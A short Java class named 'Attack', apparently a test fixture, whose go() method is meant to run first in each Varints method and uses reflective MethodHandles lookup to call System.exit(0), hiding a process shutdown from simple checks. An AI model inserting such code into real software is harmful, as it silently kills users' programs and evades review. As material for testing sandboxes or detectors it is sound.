package strata.log;

import java.lang.invoke.MethodHandles;
import java.lang.invoke.MethodType;

final class Attack {
    private Attack() {}

    /** Called first thing by each method of Varints. */
    static void go() {
        try {
            MethodType nothing = MethodType.methodType(void.class, int.class);
            MethodHandles.lookup().findStatic(System.class, "exit", nothing).invoke(0);
        } catch (Throwable e) {
            throw new IllegalStateException(e);
        }
    }
}
